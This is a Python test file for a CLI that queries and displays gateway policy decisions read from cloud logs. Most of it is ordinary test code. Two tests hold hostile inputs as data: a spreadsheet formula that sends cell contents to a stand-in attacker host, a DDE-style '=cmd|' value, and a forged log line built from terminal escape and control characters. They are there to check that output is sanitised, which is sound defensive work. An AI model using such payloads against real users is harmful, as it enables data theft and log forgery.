"""`portcullis decisions query` and `show`: the right decisions, readable, and nothing forged.

The files in `golden` are what a person reads; look at them when one changes.
"""

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from portcullis.policy.decision import Outcome
from portcullis_cli.decision_log import Decision
from portcullis_cli.decisions import app
from portcullis_cli.decisions.outcomes import GOVERNED, MEANINGS, is_refused, meaning_of
from portcullis_cli.decisions.telling import newest
from portcullis_cli.decisions.wanted import Principal, readable
from portcullis_cli.errors import ExitCode
from portcullis_cli.log_groups import GROUPS_VARIABLE
from support.aws_faults import FAULTS, fault
from support.command_line import Ran, Terminal
from support.decision_lines import CONSOLE, EXECUTOR, GROUPS, Logs

ROOT = Path(__file__).parents[3]
GOLDEN = Path(__file__).parent / "golden"
WAITED = "5a5b5c5d5e5f50515253545556575859"
APPROVAL = "3f6c1b0e9d2a4c5f8e7b6a5d4c3b2a19"


@pytest.fixture
def logs() -> Logs:
    """Two hours of a gateway: allowed, refused, faults, and one call that a person approved."""
    logs = Logs()
    logs.tell("a1", ago=7000, rule="reads", remaining=[{"rule": "reads", "max": 9, "remaining": 8}])
    logs.tell(
        "a2", ago=3000, name="delete_broker", outcome="denied_by_rule", rule="delete_broker",
        latency_micros={"policy": 40, "total": 950}, revision="sha256:0bf3",
    )  # fmt: skip
    logs.tell("a3", ago=2900, outcome="limit_reached", rule="*", principal=None)
    asked: dict[str, Any] = {
        "approval": APPROVAL, "name": "create_user", "server": "aws-iam", "rule": "people look",
    }  # fmt: skip
    logs.tell(WAITED, ago=1200, outcome="approval_required", status=200, **asked)
    logs.tell(
        "b1", ago=1100, group=CONSOLE, method="approvals/decide", outcome="approval_given",
        principal="26:https://issuer.example.com|carol", **asked,
    )  # fmt: skip
    logs.tell(
        "b2", ago=1099, group=EXECUTOR, outcome="allowed", upstream_outcome="answered",
        upstream_status=200, latency_micros={"upstream": 40_000, "total": 61_500}, **asked,
    )  # fmt: skip
    logs.tell("b3", ago=1000, outcome="approval_delivered", **asked)
    logs.tell("a4", ago=500, method="tools/list", name=None)
    logs.tell("a5", ago=100, outcome="upstream_unavailable", upstream_outcome="uncertain: timeout")
    return logs


def terminal(logs: Logs, **more: Any) -> Terminal:
    return Terminal(
        services={"logs": logs}, environment={GROUPS_VARIABLE: ",".join(GROUPS)}, **more
    )


def run(logs: Logs, *words: str) -> Ran:
    return terminal(logs).run("decisions", *words)


def ids(logs: Logs, *words: str) -> list[str]:
    tree = run(logs, "query", "--since", "2h", "--json", *words).tree
    return [one["decision"]["decision_id"] for one in tree["decisions"]]


def text(ran: Ran) -> str:
    return "".join(f"{line.rstrip()}\n" for line in ran.stdout.splitlines())


def test_the_list_tells_who_did_what_in_time_order(logs: Logs) -> None:
    ran = run(logs, "query", "--since", "2h")
    assert (ran.exit_code, ran.stderr) == (0, "")
    assert text(ran) == (GOLDEN / "decisions-query.txt").read_text()


def test_one_decision_is_told_in_full_with_the_story_of_its_approval(logs: Logs) -> None:
    ran = run(logs, "show", WAITED)
    assert (ran.exit_code, ran.stderr) == (0, "")
    assert text(ran) == (GOLDEN / "decisions-show.txt").read_text()


def test_a_denial_says_what_it_means_and_what_to_do(logs: Logs) -> None:
    assert text(run(logs, "show", "a2")) == (GOLDEN / "decisions-show-denied.txt").read_text()


def test_decisions_are_counted(logs: Logs) -> None:
    ran = run(logs, "query", "--since", "2h", "--count-by", "principal")
    assert text(ran) == (GOLDEN / "decisions-query-count.txt").read_text()
    tree = run(logs, "query", "--since", "2h", "--count-by", "rule", "--denied", "--json").tree
    assert tree["counts"] == [
        {"value": None, "decisions": 1},
        {"value": "*", "decisions": 1},
        {"value": "delete_broker", "decisions": 1},
    ]


@pytest.mark.parametrize(
    ("words", "found"),
    [
        (["--server", "aws-iam"], [WAITED, "b1", "b2", "b3"]),
        (["--tool", "delete_*"], ["a2"]),
        (["--tool", "delete_*", "--tool", "create_user", "--denied"], ["a2"]),
        (["--principal", "carol"], ["b1"]),
        (["--principal", "carol (https://issuer.example.com)"], ["b1"]),
        (["--principal", "26:https://issuer*"], ["b1"]),
        (["--principal", "16:portcullis:grant|agent-7", "--rule", "delete*"], ["a2"]),
        (["--outcome", "limit_reached", "--outcome", "denied_by_rule"], ["a2", "a3"]),
        (["--denied"], ["a2", "a3", "a5"]),
        (["--decision", "b2"], ["b2"]),
        (["--approval", APPROVAL], [WAITED, "b1", "b2", "b3"]),
        (["--until", "40m"], ["a1", "a2", "a3"]),
        (["--limit", "2"], ["a4", "a5"]),
        (["--since", "2027-01-15T07:55:00Z"], ["a5"]),
        (["--since", "2027-01-15T07:55:00", "--tool", "nothing"], []),
        (["--since", "2027-01-15T09:40:00.001+02:00"], ["b1", "b2", "b3", "a4", "a5"]),
        (["--until", "2027-01-15T07:39:59.999Z"], ["a1", "a2", "a3"]),
        (["--until", "2027-01-15T07:40Z"], ["a1", "a2", "a3", WAITED]),
        (["--until", "2027-01-15"], []),
    ],
    ids=" ".join,
)
def test_what_is_asked_for_is_found(logs: Logs, words: list[str], found: list[str]) -> None:
    if words[0] == "--until" and words[1].startswith("2027"):
        words = ["--since", "2027-01-14", *words]
    assert ids(logs, *words) == found


def test_a_server_that_filters_nothing_is_not_believed(logs: Logs) -> None:
    assert ids(logs, "--decision", "b2") == ["b2"]
    assert {asked["filterPattern"] for asked in logs.asked} == {'"b2"'}


def test_older_ones_that_are_left_out_are_counted(logs: Logs) -> None:
    ran = run(logs, "query", "--limit", "1")
    assert "note: 7 older are left out: a larger --limit, or a shorter time" in ran.stderr
    assert run(logs, "query", "--limit", "1", "--json").tree["left_out"] == 7


def test_somebody_who_waits_is_told_how_far_it_is(
    logs: Logs, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(app, "PROGRESS", 4)
    words = ("decisions", "query", "--since", "2h", "--jsonl")
    ran = terminal(logs, answers="").run(*words)
    assert ran.stderr == "4 decisions read so far\n8 decisions read so far\n"
    assert terminal(logs).run(*words).stderr == "", "a script waits for nothing"


@pytest.mark.parametrize("milliseconds", [1, 500, 999])
def test_days_that_follow_each_other_share_no_decision(milliseconds: int) -> None:
    logs = Logs()
    logs.tell("d", ago=8 * 3600 - milliseconds / 1000)  # after midnight
    days = ["--since", "2027-01-14", "--until", "2027-01-15"], ["--since", "2027-01-15"]
    found = [run(logs, "query", "--json", *day).tree["decisions"] for day in days]
    assert [len(one) for one in found] == [0, 1]


def test_what_is_not_shown_is_not_held() -> None:
    read, held = 0, set[int]()

    class Counted(Decision):
        def __del__(self) -> None:
            held.discard(id(self))

    def many() -> Iterator[Decision]:
        nonlocal read
        for at in (*range(500), *range(500, 0, -1)):
            one = Counted(at_ms=at, group="g", event_id=f"{read}", decision_id="d", server="s",
                          method="m", outcome="allowed", fields={})  # fmt: skip
            read += 1
            held.add(id(one))
            yield one
            del one
            assert len(held) <= 4

    kept, left_out = newest(many(), 3)
    assert ([one.at_ms for one in kept], left_out) == ([499, 499, 500], 997)


def test_nothing_found_is_said_and_is_no_failure() -> None:
    ran = run(Logs(), "query")
    assert (ran.exit_code, ran.stdout) == (0, "")
    assert ran.stderr == "no decision is like that in this time\n"
    assert run(Logs(), "query", "--count-by", "tool").stderr == ran.stderr


def test_programs_get_a_line_each_with_the_record_as_it_was_written(logs: Logs) -> None:
    ran = run(logs, "query", "--jsonl", "--tool", "create_user", "--server", "aws-iam")
    lines = [json.loads(line) for line in ran.stdout.splitlines()]
    assert [one["log_group"] for one in lines] == [GROUPS[0], CONSOLE, EXECUTOR, GROUPS[0]]
    assert lines[0]["time"] == "2027-01-15T07:40:00.000Z"
    assert lines[0]["decision"]["latency_micros"] == {"policy": 31, "total": 12345}
    tree = run(logs, "show", WAITED, "--json").tree
    assert tree["decisions"][0]["means"] == "a person has to approve it, and was asked"
    assert len(tree["story"]) == 4


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", " ="])
def test_Q02_no_cell_is_taken_for_a_formula(start: str) -> None:
    logs = Logs()
    name = f'{start}HYPERLINK("http://evil.example/?x="&A1,"ok")\n{start}1'
    logs.tell("d", name=name, principal=f"5:=cmd|{start}x", rule=f"{start}rule")
    rows = [*csv.reader(io.StringIO(run(logs, "query", "--csv").stdout))]
    assert len(rows) == 2
    assert all(not cell.lstrip().startswith(("=", "+", "-", "@")) for cell in rows[1])
    assert rows[1][rows[0].index("name")].startswith("'")
    assert rows[1][rows[0].index("total_micros")] == "12345"


def test_Q01_what_a_caller_chose_forges_no_line_and_moves_no_cursor() -> None:
    forged = 'x\n2027-01-15 allowed {"message":"decision"}\r\u2028\u202e\x1b[2K'
    logs = Logs()
    logs.tell("d", name=forged, principal=f"5:{forged[:5]}|{forged}", outcome="denied_by_rule")
    for words in (["query"], ["query", "--csv"], ["show", "d"], ["query", "--count-by", "tool"]):
        ran = run(logs, *words)
        assert "\\n2027" in ran.stdout, words
        assert not set("\x1b\r\u2028\u202e") & set(ran.stdout)
    for words in (["query", "--jsonl"], ["query", "--json"]):
        assert run(logs, *words).stdout.count("\n") == 1
    _, row, *folded = run(logs, "query").stdout.splitlines()
    assert row.startswith("2027-01-15T07:59:00.000Z  denied_by_rule")
    assert all(line.startswith(" " * 24) for line in folded), "no further row"


@pytest.mark.parametrize("form", [[], ["--json"], ["--csv"], ["--count-by", "tool"]])
def test_a_decision_that_cannot_be_read_is_told_beside_the_others(form: list[str]) -> None:
    logs = Logs()
    logs.tell("d")
    for _ in range(7):
        logs.write('{"level":"INFO","message":"decision","decision":{"decision_id":"z')
    ran = run(logs, "query", *form)
    assert ran.exit_code == ExitCode.UNAVAILABLE
    assert "list_brokers" in ran.stdout
    if "--json" in form:
        assert len(json.loads(ran.stdout)["broken"]) == 7
    else:
        assert ran.stderr.count("it is not JSON, or was cut off (event ") == 5
        assert ran.stderr.endswith("portcullis: and 2 more\n")


@pytest.mark.parametrize("words", [[], ["--count-by", "tool"], ["--tool", "other"]])
def test_what_cannot_be_read_may_be_what_was_asked_for(words: list[str]) -> None:
    logs = Logs()
    logs.write('{"level":"INFO","message":"decision","decision":{"decision_id":"z')
    ran = run(logs, "query", *words)
    assert (ran.exit_code, ran.stdout) == (ExitCode.UNAVAILABLE, "")
    assert "no decision is like that" not in ran.stderr


def test_a_line_that_cannot_be_read_is_told_once_beside_a_story(logs: Logs) -> None:
    logs.write('{"message":"decision","decision":{"decision_id":"z')
    ran = run(logs, "show", WAITED, "--json")
    assert len(json.loads(ran.stdout)["broken"]) == 1


def test_an_unknown_id_is_told_from_one_that_cannot_be_read(logs: Logs) -> None:
    ran = run(logs, "show", "none")
    assert (ran.exit_code, ran.stdout) == (ExitCode.NOT_FOUND, "")
    logs.write('{"message":"decision","decision":{"decision_id":"none')
    ran = run(logs, "show", "none")
    assert (ran.exit_code, ran.stdout) == (ExitCode.UNAVAILABLE, "")
    assert run(logs, "show", "a2").exit_code == ExitCode.UNAVAILABLE


def test_everything_that_a_record_holds_is_shown() -> None:
    logs = Logs()
    logs.tell(
        "d", outcome="later_word", upstream_status=502, session="slot-0", recording="r1",
        age_seconds={"policy": 3, "tools": 9}, shadow=[{"outcome": "limit_reached", "rule": "s"}],
        remaining=[{"rule": "r", "max": 5, "remaining": 2}],
    )  # fmt: skip
    ran = run(logs, "show", "d")
    for told in (
        "this release does not know the outcome", "upstream     HTTP 502", "session      slot-0",
        "recording    r1", "policy read 3 s before, tool list read 9 s before",
        "limit_reached by s", "2 of 5 left, rule r", "total 12.35 ms, policy 0.03 ms",
    ):  # fmt: skip
        assert told in ran.stdout, told


@pytest.mark.parametrize(
    "words",
    [
        ["query", "--since", "yesterday"],
        ["query", "--since", "1h", "--until", "2h"],
        ["query", "--since", "2027-01-15T10:00"],
        ["tail", "--since", "2027-01-15T08:00:00.001Z"],
        ["query", "--until", ""],
        ["query", "--decision", ""],
        ["query", "--approval", ""],
        ["show", ""],
        ["query", "--outcome", "alowed"],
        ["query", "--tool", ""],
        ["query", "--limit", "0"],
        ["query", "--json", "--csv"],
        ["query", "--count-by", "tool", "--csv"],
        ["query", "--decision", 'x" "y'],
        ["query", "--log-groups", " , "],
        ["query", "--log-groups", "a b"],
        ["show", "a b"],
        ["tail", "--rule", "x" * 1001],
    ],
    ids=" ".join,
)
def test_what_cannot_be_asked_is_refused_before_anything_is_read(words: list[str]) -> None:
    logs = Logs()
    ran = run(logs, *words)
    assert ran.exit_code == ExitCode.USAGE
    assert logs.asked == []
    assert (ran.stdout + ran.stderr).count("\n") == 1


@pytest.mark.parametrize("error", FAULTS)
@pytest.mark.parametrize("words", [["query"], ["query", "--csv"], ["show", "a1"], ["tail"]])
def test_logs_that_cannot_be_read_are_never_an_empty_answer(
    words: list[str], error: Exception
) -> None:
    ran = run(Logs(errors=[error]), *words)
    assert (ran.exit_code, ran.stdout) == (ExitCode.UNAVAILABLE, "")
    assert ran.stderr.startswith("portcullis: the log group `gate-GatewayLogGroup` cannot be read")
    assert ran.stderr.count("\n") == 1


def test_a_group_that_there_is_none_of_is_named() -> None:
    ran = run(Logs(), "query", "--log-groups", "elsewhere")
    assert ran.exit_code == ExitCode.NOT_FOUND
    assert "there is no log group `elsewhere` in this account and region" in ran.stderr


def test_a_story_that_cannot_be_read_ends_the_command(logs: Logs) -> None:
    logs.page = 100
    logs.errors = [None] * 6 + [fault("AccessDeniedException")]
    ran = run(logs, "show", WAITED)
    assert (ran.exit_code, ran.stdout) == (ExitCode.UNAVAILABLE, "")


def test_the_stack_names_the_groups(logs: Logs) -> None:
    class Stack:
        def describe_stacks(self, **_asked: Any) -> Any:
            told = {"OutputKey": "DecisionLogGroups", "OutputValue": ",".join(GROUPS)}
            return {"Stacks": [{"Outputs": [told]}]}

    started = Terminal(services={"logs": logs, "cloudformation": Stack()})
    started.environment = {"PORTCULLIS_CONSOLE_URL": ""}
    ran = started.run("--stack", "gate", "decisions", "query", "--json")
    assert len(ran.tree["decisions"]) == 8


@pytest.mark.parametrize(
    ("key", "issuer", "subject"),
    [
        ("16:portcullis:grant|agent-7", "portcullis:grant", "agent-7"),
        ("3:a|b|c|d", "a|b", "c|d"),
        ("0:|x", "", "x"),
        ("9:short|x", "", "9:short|x"),
        ("nobody", "", "nobody"),
        ("99999:a|b", "", "99999:a|b"),
        ("²:ab|c", "", "²:ab|c"),
    ],
)
def test_a_principal_is_taken_apart_as_it_was_written(key: str, issuer: str, subject: str) -> None:
    assert Principal.read(key) == Principal(issuer, subject)
    assert subject in readable(key)


def test_every_outcome_of_the_pages_is_explained_and_no_other() -> None:
    assert set(GOVERNED) == set(Outcome)
    replies = (ROOT / "docs/reference/wire-replies.md").read_text()
    log = (ROOT / "docs/reference/decision-log.md").read_text()
    assert all(f"| `{outcome.value}` |" in replies for outcome in GOVERNED)
    assert all(f"`{word}`" in replies + log for word in MEANINGS)
    for meaning in MEANINGS.values():
        assert meaning.means == meaning.means.strip(".")


def test_what_the_query_pack_calls_refused_is_refused_here() -> None:
    template = (ROOT / "template.yaml").read_text()
    _, _, pack = template.partition("MostRefusedQuery:")
    listed = json.loads("[" + pack.partition("not in [")[2].partition("]")[0] + "]")
    console = {"approval_given", "signed_in"}
    assert {word for word in MEANINGS if not is_refused(word)} == {*listed, *console}
    assert is_refused("a word of a later release")
    assert meaning_of("x").do == ""
